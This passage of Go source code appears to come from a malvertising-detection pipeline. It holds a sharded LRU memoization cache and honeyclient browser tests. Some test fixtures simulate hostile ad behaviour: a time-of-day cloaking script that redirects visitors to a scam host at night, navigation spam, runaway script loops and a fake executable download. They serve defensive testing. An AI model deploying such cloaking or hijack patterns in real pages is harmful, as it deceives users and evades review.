	c.Advance()
	if v, ok := c.Get("a"); !ok || v != 2 {
		t.Fatal("restored entry lapsed early")
	}
}

func TestErrSkipStore(t *testing.T) {
	c := New[string, int](Config{Capacity: 8})
	var calls int
	load := func() (int, error) {
		calls++
		return 9, ErrSkipStore
	}
	v, err := c.GetOrLoad("k", load)
	if err != nil || v != 9 {
		t.Fatalf("got %d,%v", v, err)
	}
	if c.Len() != 0 {
		t.Fatal("ErrSkipStore value was stored")
	}
	// The next call loads again.
	if _, err := c.GetOrLoad("k", load); err != nil {
		t.Fatal(err)
	}
	if calls != 2 {
		t.Fatalf("loader ran %d times", calls)
	}
}

func TestLoaderError(t *testing.T) {
	c := New[string, int](Config{Capacity: 8})
	boom := errors.New("boom")
	if _, err := c.GetOrLoad("k", func() (int, error) { return 0, boom }); !errors.Is(err, boom) {
		t.Fatalf("err = %v", err)
	}
	if c.Len() != 0 {
		t.Fatal("errored load was stored")
	}
}

func TestPurge(t *testing.T) {
	c := New[string, int](Config{Capacity: 8, Shards: 2})
	for i := 0; i < 6; i++ {
		c.Put(fmt.Sprintf("k%d", i), i)
	}
	c.Purge()
	if c.Len() != 0 {
		t.Fatalf("Len after purge = %d", c.Len())
	}
	if _, ok := c.Get("k0"); ok {
		t.Fatal("purged entry still visible")
	}
}

func TestIntegerKeys(t *testing.T) {
	c := New[uint64, string](Config{Capacity: 8})
	c.Put(7, "seven")
	if v, ok := c.Get(7); !ok || v != "seven" {
		t.Fatalf("got %q,%v", v, ok)
	}
}

// TestTelemetryCounters checks the registry mirrors: the same events land in
// cache_*_total{cache=name} as in Stats().
func TestTelemetryCounters(t *testing.T) {
	tel := telemetry.New(1)
	c := New[string, int](Config{Capacity: 2, Shards: 1, Name: "unit", Tel: tel})
	c.Put("a", 1)
	c.Put("b", 2)
	c.Get("a")
	c.Get("nope")
	c.Put("c", 3) // evicts b

	l := telemetry.L("cache", "unit")
	if got := tel.Counter("cache_hits_total", l).Value(); got != 1 {
		t.Fatalf("hits counter = %d", got)
	}
	if got := tel.Counter("cache_misses_total", l).Value(); got != 1 {
		t.Fatalf("misses counter = %d", got)
	}
	if got := tel.Counter("cache_evictions_total", l).Value(); got != 1 {
		t.Fatalf("evictions counter = %d", got)
	}
}

// TestCapacityRounding pins the shard arithmetic: tiny capacities stay
// usable and never panic.
func TestCapacityRounding(t *testing.T) {
	c := New[string, int](Config{Capacity: 1, Shards: 16})
	c.Put("a", 1)
	c.Put("b", 2)
	if c.Len() > 2 { // at most one entry per effective shard
		t.Fatalf("Len = %d", c.Len())
	}
	d := New[string, int](Config{})
	d.Put("x", 1)
	if _, ok := d.Get("x"); !ok {
		t.Fatal("default config lost entry")
	}
}
