// Package cachex is the pipeline's content-addressed memoization layer: a
// zero-dependency, generic, sharded LRU cache with single-flight loading.
// The ad ecosystem is massively repetitive — the same creatives, arbitration
// hosts, and payload bodies recur across placements — and the oracle's three
// detectors (honeyclient, blacklist tracker, AV scanner) are all pure
// functions of their inputs, so re-deriving a verdict for an artefact the
// pipeline has already analyzed is wasted work. cachex removes that work
// without changing any result.
//
// Correctness rests on one rule: a cache may only hold values that are pure
// functions of their keys. Under that rule a hit is indistinguishable from a
// recomputation, so a study with caches on is byte-identical — in stats,
// corpus, and incidents — to one with caches off, independent of worker
// interleaving, eviction pressure, or which goroutine wins a single-flight
// race. Hit/miss/eviction counts themselves are NOT deterministic (they
// depend on scheduling, like wall-clock durations); they are telemetry, and
// like all telemetry they are written out of the pipeline, never read back.
//
// Expiry is by generation, not wall clock: callers advance a logical epoch
// (e.g. one crawl day) and entries older than TTLGenerations epochs lapse.
// Deterministic inputs deserve deterministic expiry.
package cachex

import (
	"errors"
	"math/bits"
	"sync"
	"sync/atomic"

	"madave/internal/telemetry"
)

// ErrSkipStore is a sentinel a loader returns alongside a value to deliver
// the value to every waiting caller WITHOUT storing it. Use it for results
// that are valid for the present callers but not reproducible — e.g. a
// partial honeyclient report cut short by a cancelled context.
var ErrSkipStore = errors.New("cachex: do not store")

// DefaultCapacity bounds a cache when Config.Capacity is zero.
const DefaultCapacity = 1 << 14

// DefaultShards is the shard count when Config.Shards is zero.
const DefaultShards = 16

// Config parameterizes one cache.
type Config struct {
	// Capacity is the maximum number of entries across all shards
	// (0 = DefaultCapacity). Each shard holds Capacity/Shards entries and
	// evicts its own least-recently-used entry, an approximate global LRU.
	Capacity int
	// Shards is the number of independently locked segments, rounded up to
	// a power of two (0 = DefaultShards).
	Shards int
	// TTLGenerations expires entries stored more than this many Advance()
	// calls ago (0 = entries never expire).
	TTLGenerations int
	// Name labels the cache's telemetry series (cache_hits_total{cache=Name}).
	Name string
	// Tel, when non-nil, mirrors the cache's counters into the registry.
	// Purely observational, like all telemetry.
	Tel *telemetry.Set
}

// Stats is a point-in-time snapshot of one cache's counters.
type Stats struct {
	Name      string
	Hits      int64
	Misses    int64
	Stores    int64
	Evictions int64
	Coalesced int64
	Expired   int64
	Size      int
}

// Lookups returns the total number of Get/GetOrLoad decisions.
func (s Stats) Lookups() int64 { return s.Hits + s.Misses }

// HitRatio returns Hits / (Hits + Misses), or 0 before any lookup.
func (s Stats) HitRatio() float64 {
	if n := s.Lookups(); n > 0 {
		return float64(s.Hits) / float64(n)
	}
	return 0
}

// entry is one cached value on a shard's intrusive LRU list.
type entry[K comparable, V any] struct {
	key        K
	val        V
	gen        uint64
	prev, next *entry[K, V]
}

// flight is one in-progress load other callers coalesce onto.
type flight[V any] struct {
	done chan struct{}
	val  V
	err  error
}

// shard is one lock domain: a map, an LRU list (head = most recent), and
// the in-flight load table.
type shard[K comparable, V any] struct {
	mu       sync.Mutex
	entries  map[K]*entry[K, V]
	head     *entry[K, V]
	tail     *entry[K, V]
	inflight map[K]*flight[V]
}

// Cache is a sharded concurrent LRU with single-flight loading. The zero
// value is not usable; construct with New.
type Cache[K comparable, V any] struct {
	shards   []shard[K, V]
	mask     uint64
	perShard int
	hash     func(K) uint64
	ttl      uint64
	gen      atomic.Uint64
	name     string

	hits, misses, stores   atomic.Int64
	evictions, coalesced   atomic.Int64
	expired                atomic.Int64
	tHits, tMisses, tEvict *telemetry.Counter
	tCoalesce, tExpired    *telemetry.Counter
}

// New builds a cache from cfg. Keys must be strings or fixed-width integers;
// other key types need NewWithHasher.
func New[K comparable, V any](cfg Config) *Cache[K, V] {
	h := defaultHasher[K]()
	if h == nil {
		panic("cachex: no default hasher for key type; use NewWithHasher")
	}
	return NewWithHasher[K, V](cfg, h)
}

// NewWithHasher is New with an explicit key-hash function (used only for
// shard selection, so it needs to be well-spread, not cryptographic).
func NewWithHasher[K comparable, V any](cfg Config, hash func(K) uint64) *Cache[K, V] {
	capacity := cfg.Capacity
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	n := cfg.Shards
	if n <= 0 {
		n = DefaultShards
	}
	if n > capacity {
		n = capacity
	}
	n = 1 << bits.Len(uint(n-1)) // round up to a power of two
	per := capacity / n
	if per < 1 {
		per = 1
	}
	c := &Cache[K, V]{
		shards:   make([]shard[K, V], n),
		mask:     uint64(n - 1),
		perShard: per,
		hash:     hash,
		name:     cfg.Name,
	}
	if cfg.TTLGenerations > 0 {
		c.ttl = uint64(cfg.TTLGenerations)
	}
	for i := range c.shards {
		c.shards[i].entries = make(map[K]*entry[K, V])
		c.shards[i].inflight = make(map[K]*flight[V])
	}
	if cfg.Tel != nil {
		l := telemetry.L("cache", cfg.Name)
		c.tHits = cfg.Tel.Counter("cache_hits_total", l)
		c.tMisses = cfg.Tel.Counter("cache_misses_total", l)
		c.tEvict = cfg.Tel.Counter("cache_evictions_total", l)
		c.tCoalesce = cfg.Tel.Counter("cache_coalesced_total", l)
		c.tExpired = cfg.Tel.Counter("cache_expired_total", l)
	}
	return c
}

// defaultHasher covers the key types the pipeline uses.
func defaultHasher[K comparable]() func(K) uint64 {
	var zero K
	switch any(zero).(type) {
	case string:
		return func(k K) uint64 { return fnv1a(any(k).(string)) }
	case int:
		return func(k K) uint64 { return mix(uint64(any(k).(int))) }
	case int64:
		return func(k K) uint64 { return mix(uint64(any(k).(int64))) }
	case uint64:
		return func(k K) uint64 { return mix(any(k).(uint64)) }
	case uint32:
		return func(k K) uint64 { return mix(uint64(any(k).(uint32))) }
	case int32:
		return func(k K) uint64 { return mix(uint64(any(k).(int32))) }
	}
	return nil
}

// fnv1a is the 64-bit FNV-1a string hash.
func fnv1a(s string) uint64 {
	h := uint64(14695981039346656037)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return h
}

// mix is a 64-bit finalizer (splitmix64) for integer keys.
func mix(x uint64) uint64 {
	x ^= x >> 30
	x *= 0xbf58476d1ce4e5b9
	x ^= x >> 27
	x *= 0x94d049bb133111eb
	x ^= x >> 31
	return x
}

func (c *Cache[K, V]) shardFor(k K) *shard[K, V] {
	return &c.shards[c.hash(k)&c.mask]
}

// Advance moves the cache one generation forward. Entries stored more than
// TTLGenerations advances ago lapse on their next lookup.
func (c *Cache[K, V]) Advance() { c.gen.Add(1) }

// Get returns the cached value for k, refreshing its recency.
func (c *Cache[K, V]) Get(k K) (V, bool) {
	s := c.shardFor(k)
	s.mu.Lock()
	v, ok := c.lookupLocked(s, k)
	s.mu.Unlock()
	if ok {
		c.countHit()
	} else {
		c.countMiss()
	}
	return v, ok
}

// lookupLocked finds k in s, handling expiry and LRU promotion. Caller holds
// s.mu.
func (c *Cache[K, V]) lookupLocked(s *shard[K, V], k K) (V, bool) {
	var zero V
	e, ok := s.entries[k]
	if !ok {
		return zero, false
	}
	if c.ttl > 0 && c.gen.Load()-e.gen >= c.ttl {
		s.unlink(e)
		delete(s.entries, k)
		c.expired.Add(1)
		if c.tExpired != nil {
			c.tExpired.Inc()
		}
		return zero, false
	}
	s.moveToFront(e)
	return e.val, true
}

// Put stores v under k, evicting the shard's LRU entry if it is full.
func (c *Cache[K, V]) Put(k K, v V) {
	s := c.shardFor(k)
	s.mu.Lock()
	c.storeLocked(s, k, v)
	s.mu.Unlock()
}

// storeLocked inserts or refreshes an entry. Caller holds s.mu.
func (c *Cache[K, V]) storeLocked(s *shard[K, V], k K, v V) {
	if e, ok := s.entries[k]; ok {
		e.val = v
		e.gen = c.gen.Load()
		s.moveToFront(e)
		return
	}
	if len(s.entries) >= c.perShard {
		if lru := s.tail; lru != nil {
			s.unlink(lru)
			delete(s.entries, lru.key)
			c.evictions.Add(1)
			if c.tEvict != nil {
				c.tEvict.Inc()
			}
		}
	}
	e := &entry[K, V]{key: k, val: v, gen: c.gen.Load()}
	s.entries[k] = e
	s.pushFront(e)
	c.stores.Add(1)
}

// GetOrLoad returns the cached value for k, or runs load to produce it.
// Concurrent calls for the same key coalesce: exactly one caller (the
// leader) runs load while the rest block and share its result. A load that
// returns a nil error is stored; ErrSkipStore delivers the value to all
// waiters without storing; any other error is propagated to all waiters and
// nothing is stored.
//
// load runs outside the shard lock, so it may take arbitrarily long and may
// itself use the cache (with a different key).
func (c *Cache[K, V]) GetOrLoad(k K, load func() (V, error)) (V, error) {
	s := c.shardFor(k)
	s.mu.Lock()
	if v, ok := c.lookupLocked(s, k); ok {
		s.mu.Unlock()
		c.countHit()
		return v, nil
	}
	if f, ok := s.inflight[k]; ok {
		s.mu.Unlock()
		c.coalesced.Add(1)
		if c.tCoalesce != nil {
			c.tCoalesce.Inc()
		}
		c.countHit()
		<-f.done
		return f.val, f.err
	}
	f := &flight[V]{done: make(chan struct{})}
	s.inflight[k] = f
	s.mu.Unlock()
	c.countMiss()

	v, err := load()
	f.val = v
	f.err = err
	if errors.Is(err, ErrSkipStore) {
		f.err = nil
	}

	s.mu.Lock()
	delete(s.inflight, k)
	if err == nil {
		c.storeLocked(s, k, v)
	}
	s.mu.Unlock()
	close(f.done)
	return f.val, f.err
}

// Purge drops every entry (in-flight loads are unaffected: they complete
// and store into the emptied cache). Use after mutating the underlying
// source of truth.
func (c *Cache[K, V]) Purge() {
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		s.entries = make(map[K]*entry[K, V])
		s.head, s.tail = nil, nil
		s.mu.Unlock()
	}
}

// Len returns the number of cached entries.
func (c *Cache[K, V]) Len() int {
	n := 0
	for i := range c.shards {
		s := &c.shards[i]
		s.mu.Lock()
		n += len(s.entries)
		s.mu.Unlock()
	}
	return n
}

// Stats snapshots the counters.
func (c *Cache[K, V]) Stats() Stats {
	return Stats{
		Name:      c.name,
		Hits:      c.hits.Load(),
		Misses:    c.misses.Load(),
		Stores:    c.stores.Load(),
		Evictions: c.evictions.Load(),
		Coalesced: c.coalesced.Load(),
		Expired:   c.expired.Load(),
		Size:      c.Len(),
	}
}

func (c *Cache[K, V]) countHit() {
	c.hits.Add(1)
	if c.tHits != nil {
		c.tHits.Inc()
	}
}

func (c *Cache[K, V]) countMiss() {
	c.misses.Add(1)
	if c.tMisses != nil {
		c.tMisses.Inc()
	}
}

// ---- intrusive LRU list (head = most recently used) ----

func (s *shard[K, V]) pushFront(e *entry[K, V]) {
	e.prev = nil
	e.next = s.head
	if s.head != nil {
		s.head.prev = e
	}
	s.head = e
	if s.tail == nil {
		s.tail = e
	}
}

func (s *shard[K, V]) unlink(e *entry[K, V]) {
	if e.prev != nil {
		e.prev.next = e.next
	} else {
		s.head = e.next
	}
	if e.next != nil {
		e.next.prev = e.prev
	} else {
		s.tail = e.prev
	}
	e.prev, e.next = nil, nil
}

func (s *shard[K, V]) moveToFront(e *entry[K, V]) {
	if s.head == e {
		return
	}
	s.unlink(e)
	s.pushFront(e)
}
