package browser

import (
	"context"
	"errors"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"madave/internal/memnet"
)

// partialWorld is a publisher page with three iframes: one healthy, one on
// a dead (NX) host, and one whose server resets — plus a broken image. The
// browser must return the surviving frame and record every failure.
func partialWorld() *memnet.Universe {
	u := memnet.NewUniverse()
	u.HandleFunc("pub.partial.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body>
			<img src="http://deadimg.partial.example.zz/x.png">
			<iframe src="http://good.partial.example.com/ad"></iframe>
			<iframe src="http://gone.partial.example.zz/ad"></iframe>
			<iframe src="http://reset.partial.example.com/ad"></iframe>
		</body></html>`)
	})
	u.HandleFunc("good.partial.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><p id="ad">surviving ad</p></body></html>`)
	})
	return u
}

func TestPartialPageKeepsSurvivingFrames(t *testing.T) {
	u := partialWorld()
	ch := memnet.NewChaos(&memnet.Transport{U: u}, 1, memnet.FaultProfile{})
	ch.SetHostProfile("reset.partial.example.com", memnet.FaultProfile{ResetRate: 1})
	client := &http.Client{
		Transport: ch,
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	b := New(client, UserProfile())

	page, err := b.Load("http://pub.partial.example.com/", "")
	if err != nil {
		t.Fatalf("top page must load: %v", err)
	}

	// All three iframes are returned: the survivor rendered, the failed
	// ones as husks carrying their own error records.
	if len(page.Frames) != 3 {
		t.Fatalf("frames = %d, want 3 (failures must not drop frames)", len(page.Frames))
	}
	var survivors, failed int
	for _, f := range page.Frames {
		if f.Doc != nil && f.Doc.FindFirst("p") != nil {
			survivors++
		}
		if len(f.Errors) > 0 {
			failed++
		}
	}
	if survivors != 1 {
		t.Fatalf("surviving frames = %d, want 1", survivors)
	}
	if failed != 2 {
		t.Fatalf("failed frames carrying errors = %d, want 2", failed)
	}

	// The parent aggregates each child failure and the broken image is in
	// Resources with its error, not silently dropped.
	var nxNoted, resetNoted bool
	for _, e := range page.Errors {
		if strings.Contains(e, "gone.partial.example.zz") {
			nxNoted = true
		}
		if strings.Contains(e, "reset.partial.example.com") {
			resetNoted = true
		}
	}
	if !nxNoted || !resetNoted {
		t.Fatalf("parent Errors missing child failures: %v", page.Errors)
	}
	var imgErr bool
	for _, r := range page.Resources {
		if strings.Contains(r.URL, "deadimg") && r.Err != "" {
			imgErr = true
		}
	}
	if !imgErr {
		t.Fatalf("broken image not recorded: %+v", page.Resources)
	}
}

func TestLoadContextDeadlineYieldsPartialPage(t *testing.T) {
	u := partialWorld()
	// Stall everything: with a short visit deadline the top page's body
	// read blocks until the deadline, and Load returns what it has instead
	// of hanging.
	ch := memnet.NewChaos(&memnet.Transport{U: u}, 1, memnet.FaultProfile{StallRate: 1})
	client := &http.Client{Transport: ch}
	b := New(client, UserProfile())

	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	start := time.Now()
	page, err := b.LoadContext(ctx, "http://pub.partial.example.com/", "")
	if time.Since(start) > 10*time.Second {
		t.Fatal("load did not respect the visit deadline")
	}
	// The stalled body truncates the document: the page comes back (maybe
	// empty, never hung) and the error—if any—is a deadline, not a hang.
	if err != nil && !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("err = %v", err)
	}
	if page == nil {
		t.Fatal("no page returned")
	}
}

func TestLoadContextCancelledBeforeStart(t *testing.T) {
	u := partialWorld()
	client := memnet.Client(u)
	b := New(client, UserProfile())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	page, err := b.LoadContext(ctx, "http://pub.partial.example.com/", "")
	if err == nil {
		t.Fatal("expected error from cancelled context")
	}
	if page == nil || len(page.Errors) == 0 {
		t.Fatal("cancelled load should still return the page husk with the error recorded")
	}
}
