package browser

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"

	"madave/internal/memnet"
)

func TestDocumentWriteScriptChain(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("chain.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		// A script that writes a script that writes a marker: the round
		// loop must execute newly written scripts.
		io.WriteString(w, `<html><body><script>
			document.write('<script>document.write("<p id=deep>level2</p>");<\/script>');
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://chain.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "level2") {
		t.Fatalf("written script did not execute: %s", page.HTML())
	}
}

func TestWriteLoopBounded(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("writeloop.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		// Each executed script writes another script, forever. The round
		// cap must stop this.
		io.WriteString(w, `<html><body><script>
			var s = '<script>document.write("X" + "");<\/script>';
			document.write(s + s + s);
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	if _, err := b.Load("http://writeloop.example.com/", ""); err != nil {
		t.Fatal(err)
	}
	// Reaching here without hanging is the assertion.
}

func TestFrameDepthLimit(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("russian.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, `<html><body><p>doll</p><iframe src="http://russian.example.com/deeper"></iframe></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	b.MaxFrameDepth = 3
	page, err := b.Load("http://russian.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	depth := 0
	for p := page; len(p.Frames) > 0; p = p.Frames[0] {
		depth++
		if depth > 10 {
			t.Fatal("depth limit not applied")
		}
	}
	if depth != 3 {
		t.Fatalf("frame depth = %d, want 3", depth)
	}
}

func TestNavigationFollowLimit(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("navspam.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var i;
			for (i = 0; i < 10; i++) {
				window.location = "http://target.example.com/p" + i;
			}
		</script></body></html>`)
	})
	var hits int
	u.HandleFunc("target.example.com", func(w http.ResponseWriter, r *http.Request) {
		hits++
		io.WriteString(w, "ok")
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://navspam.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Navigations) != 10 {
		t.Fatalf("navigations recorded = %d, want all 10", len(page.Navigations))
	}
	if hits > maxFollowedNavigations {
		t.Fatalf("followed %d navigations, cap is %d", hits, maxFollowedNavigations)
	}
}

func TestIframeWithoutSrcSkipped(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("nosrc.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><iframe name="placeholder"></iframe></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://nosrc.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Frames) != 0 {
		t.Fatal("src-less iframe should not load")
	}
	if len(page.FrameElems) != 1 {
		t.Fatal("iframe element should still be counted")
	}
}

func TestRelativeIframeSrcResolved(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("rel.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		switch r.URL.Path {
		case "/section/page":
			io.WriteString(w, `<html><body><iframe src="../widgets/frame"></iframe></body></html>`)
		case "/widgets/frame":
			io.WriteString(w, `<html><body><p>resolved</p></body></html>`)
		default:
			http.NotFound(w, r)
		}
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://rel.example.com/section/page", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Frames) != 1 || !strings.Contains(page.Frames[0].HTML(), "resolved") {
		t.Fatalf("relative iframe not resolved: %+v", page.Frames)
	}
}

func TestSelfAliasAndInnerDimensions(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("alias.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			document.write("<p>" + self.innerWidth + "x" + window.innerHeight + "</p>");
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://alias.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "1920x1080") {
		t.Fatalf("window aliases wrong: %s", page.HTML())
	}
}

func TestGetElementByIdAndInnerHTML(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("dom.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><div id="slot">old</div><script>
			var el = document.getElementById("slot");
			el.innerHTML = "<b>new content</b>";
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://dom.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "new content") || strings.Contains(page.HTML(), "old") {
		t.Fatalf("innerHTML mutation failed: %s", page.HTML())
	}
	if page.Doc.FindFirst("b") == nil {
		t.Fatal("written fragment not parsed into DOM")
	}
}

func TestLocationHrefRead(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("whoami.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			document.write("<p>" + location.href + "|" + location.host + "</p>");
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://whoami.example.com/page?x=1", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "http://whoami.example.com/page?x=1|whoami.example.com") {
		t.Fatalf("location introspection wrong: %s", page.HTML())
	}
}

func TestDownloadAsTopDocument(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("direct.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		io.WriteString(w, "MZ binary")
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://direct.example.com/file.exe", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(page.Downloads) != 1 || page.Doc != nil {
		t.Fatalf("direct download mishandled: %+v", page)
	}
}

func TestCookieJar(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("cookies.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			document.cookie = "freq=1; path=/";
			document.cookie = "seg=sports";
			document.write("<p>" + document.cookie + "</p>");
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://cookies.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "freq=1; seg=sports") {
		t.Fatalf("cookie readback wrong: %s", page.HTML())
	}
	if v, ok := b.Cookie("cookies.example.com", "freq"); !ok || v != "1" {
		t.Fatalf("Cookie() = %q, %v", v, ok)
	}
	if _, ok := b.Cookie("other.example.net", "freq"); ok {
		t.Fatal("cookies must be scoped to the registered domain")
	}
}

func TestCookiePersistsAcrossVisits(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("capped.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		// Frequency capping: show the big ad only on the first visit.
		io.WriteString(w, `<html><body><script>
			if (document.cookie.indexOf("shown=1") < 0) {
				document.cookie = "shown=1";
				document.write("<p id=big>BIG AD</p>");
			} else {
				document.write("<p id=small>small ad</p>");
			}
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	first, err := b.Load("http://capped.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	second, err := b.Load("http://capped.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(first.HTML(), "BIG AD") {
		t.Fatalf("first visit: %s", first.HTML())
	}
	if !strings.Contains(second.HTML(), "small ad") {
		t.Fatalf("second visit: %s", second.HTML())
	}
}

func TestDateBindings(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("clock.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var d = new Date();
			document.write("<p>" + Date.now() + "|" + d.getTime() + "|" + d.getHours() + "|" + d.getDay() + "</p>");
		</script></body></html>`)
	})
	b, _ := newBrowser(u, UserProfile())
	b.ClockMillis = 1_394_548_200_000 // 2014-03-11 14:30 UTC, a Tuesday
	page, err := b.Load("http://clock.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(page.HTML(), "1394548200000|1394548200000|14|2") {
		t.Fatalf("date output: %s", page.HTML())
	}
}

func TestTimeOfDayCloaking(t *testing.T) {
	// A campaign that only misbehaves at night: the honeyclient's fixed
	// daytime clock sees the benign branch; an analyst can rewind the clock
	// to expose the attack.
	u := memnet.NewUniverse()
	u.HandleFunc("nightowl.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			if (new Date().getHours() >= 22 || new Date().getHours() < 6) {
				top.location = "http://night-scam.example.net/";
			} else {
				document.write("<p>daytime ad</p>");
			}
		</script></body></html>`)
	})
	day, _ := newBrowser(u, UserProfile())
	day.ClockMillis = 1_394_548_200_000 // 14:30
	dp, err := day.Load("http://nightowl.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(dp.Navigations) != 0 || !strings.Contains(dp.HTML(), "daytime ad") {
		t.Fatalf("daytime render wrong: navs=%v", dp.Navigations)
	}
	night, _ := newBrowser(u, UserProfile())
	night.ClockMillis = 1_394_580_600_000 // 23:30 same day
	np, err := night.Load("http://nightowl.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	if len(np.Navigations) != 1 || np.Navigations[0].Kind != NavTop {
		t.Fatalf("night hijack missed: %+v", np.Navigations)
	}
}

func TestCreateElementAppendChild(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("loader.example.com", func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<html><body><script>
				var img = document.createElement("img");
				img.src = "http://assets.example.com/px.gif";
				img.width = 1; img.height = 1;
				document.body.appendChild(img);

				var fr = document.createElement("iframe");
				fr.src = "http://child.example.com/";
				document.body.appendChild(fr);
			</script></body></html>`)
		}
	})
	u.HandleFunc("assets.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "image/gif")
		io.WriteString(w, "GIF89a")
	})
	u.HandleFunc("child.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body><p>child frame</p></body></html>")
	})
	b, _ := newBrowser(u, UserProfile())
	page, err := b.Load("http://loader.example.com/", "")
	if err != nil {
		t.Fatal(err)
	}
	// The appended image was fetched.
	foundImg := false
	for _, r := range page.Resources {
		if strings.Contains(r.URL, "px.gif") && r.Status == 200 {
			foundImg = true
		}
	}
	if !foundImg {
		t.Fatalf("appended image not fetched: %+v", page.Resources)
	}
	// The appended iframe was loaded.
	if len(page.Frames) != 1 || !strings.Contains(page.Frames[0].HTML(), "child frame") {
		t.Fatalf("appended iframe not loaded: %+v", page.Frames)
	}
}

func TestAsyncScriptLoaderExecutes(t *testing.T) {
	u := memnet.NewUniverse()
	u.HandleFunc("asyncad.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<html><body><script>
			var s = document.createElement("script");
			s.src = "http://tag.example.com/ad.js";
			document.body.appendChild(s);
		</script></body></html>`)
	})
	u.HandleFunc("tag.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/javascript")
		io.WriteString(w, `document.write("<p id=loaded>async ad loaded</p>");`)
	})
